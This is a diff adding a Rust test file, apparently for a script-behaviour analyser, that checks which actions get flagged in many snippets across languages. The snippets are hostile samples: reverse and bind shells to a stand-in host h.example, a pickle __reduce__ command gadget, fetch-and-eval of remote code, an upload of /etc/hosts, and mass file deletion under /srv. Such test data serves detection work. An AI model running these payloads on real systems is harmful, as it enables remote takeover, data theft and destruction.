@@ -1,0 +1,176 @@
+//! Values that travel: through functions, threads, listings, reflection.
+
+use super::check;
+use aegish_profiles::Lang;
+
+#[test]
+fn functions_are_followed_to_their_calls() {
+    check(
+        Lang::Python,
+        &[
+            (
+                "(lambda f: f('id'))(__import__('os').system)",
+                &["shell id"],
+            ),
+            (
+                "import socket,os,threading\ndef h(c):\n  while True:\n    d=c.recv(99)\n    os.popen(d.decode())\ns=socket.socket();s.bind(('',99))\nwhile True:\n  c,a=s.accept()\n  threading.Thread(target=h,args=(c,)).start()",
+                &["listen  99", "received"],
+            ),
+            (
+                "import os\nclass A:\n  def __reduce__(self): return (os.system,('id',))\n",
+                &["shell id"],
+            ),
+            ("def a(x):\n  b(x)\ndef b(x):\n  a(x)\na(1)", &[]),
+            (
+                "import os\nclass A:\n    def run(self, c):\n        os.system(c)\nA().run('id')",
+                &["shell id"],
+            ),
+        ],
+    );
+    check(
+        Lang::Ruby,
+        &[
+            ("def run(c) system(c) end; run('id')", &["shell id"]),
+            (
+                "def run(c)\n  system(c) if c\nend\nrun 'id'\nsystem 'who'",
+                &["shell id", "shell who"],
+            ),
+        ],
+    );
+    check(
+        Lang::Lua,
+        &[
+            (
+                "local function r(c) os.execute(c) end r('id')",
+                &["shell id"],
+            ),
+            (
+                "function f(x) if x then os.execute(x) end for i=1,2 do print(i) end end f('id') os.execute('who')",
+                &["shell id", "shell who"],
+            ),
+            ("require\"os\".execute\"id\"", &["shell id"]),
+        ],
+    );
+    check(
+        Lang::Julia,
+        &[(
+            "function f(x)\n for i in 1:3\n  run(`echo $x`)\n end\nend\nf(\"hi\")\nrun(`who`)",
+            &["argv echo|hi", "argv who"],
+        )],
+    );
+    check(
+        Lang::Elixir,
+        &[(
+            "defmodule A do\n def f(x) do\n  System.shell(x)\n end\nend\nA.f(\"id\")",
+            &["shell id"],
+        )],
+    );
+    check(
+        Lang::Go,
+        &[(
+            "package main\nimport (\"os/exec\";\"net\")\nfunc main(){c,_:=net.Dial(\"tcp\",\"h.example:99\");for{b:=make([]byte,9);n,_:=c.Read(b);exec.Command(\"sh\",\"-c\",string(b[:n])).Run()}}",
+            &["connect h.example 99", "received", "argv sh|-c|‹computed›"],
+        )],
+    );
+    check(
+        Lang::Php,
+        &[
+            (
+                "(new ReflectionFunction('system'))->invoke('id');",
+                &["shell id"],
+            ),
+            (
+                "$x = function($c) { return `$c`; }; $x('id');",
+                &["shell id"],
+            ),
+            ("assert($x > 0);", &[]),
+        ],
+    );
+    check(
+        Lang::Perl,
+        &[("my $c = sub { system @_ }; $c->('id')", &["shell id"])],
+    );
+}
+
+#[test]
+fn listings_carry_their_pattern() {
+    check(
+        Lang::Python,
+        &[
+            (
+                "import glob,os\nfor f in glob.glob('/srv/log/*'): os.remove(f)",
+                &["list /srv/log/*", "delete /srv/log/*"],
+            ),
+            (
+                "import os, shutil\nfor d in os.listdir('/srv'): shutil.rmtree(os.path.join('/srv', d))",
+                &["list /srv", "tree /srv/*"],
+            ),
+        ],
+    );
+    check(
+        Lang::Perl,
+        &[
+            (
+                "map { unlink } glob('/srv/*')",
+                &["list /srv/*", "delete /srv/*"],
+            ),
+            (
+                "@ARGV=('/etc/hosts'); while(<>){print}",
+                &["read /etc/hosts"],
+            ),
+        ],
+    );
+    check(
+        Lang::Php,
+        &[(
+            "array_map('unlink', glob('/srv/*'));",
+            &["list /srv/*", "delete /srv/*"],
+        )],
+    );
+    check(
+        Lang::Node,
+        &[(
+            "require('fs').readdirSync('.').forEach(f=>require('fs').unlinkSync(f))",
+            &["list .", "delete *"],
+        )],
+    );
+}
+
+#[test]
+fn content_keeps_its_origin() {
+    check(
+        Lang::Python,
+        &[
+            (
+                "import urllib.request as r, urllib.parse as u\nr.urlopen('http://h.example', u.urlencode({'d': open('/etc/hosts').read()}).encode())",
+                &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
+            ),
+            (
+                "import json,urllib.request\nd=json.load(urllib.request.urlopen('https://h.example/x'))\nprint(d['a'])",
+                &["fetch https://h.example/x"],
+            ),
+            (
+                "import subprocess\np=subprocess.Popen(['bash'],stdin=subprocess.PIPE)\np.communicate(b'id\\n')",
+                &["argv bash", "shell id\n"],
+            ),
+        ],
+    );
+    check(
+        Lang::Node,
+        &[(
+            "const h=require('https');h.get('https://h.example/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
+            &["fetch https://h.example/x", "received"],
+        )],
+    );
+    check(
+        Lang::Ruby,
+        &[(
+            "f=TCPSocket.open('h.example',99).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
+            &[
+                "connect h.example 99",
+                "attach",
+                "shell /bin/sh -i <&‹received› >&‹received›",
+            ],
+        )],
+    );
+}
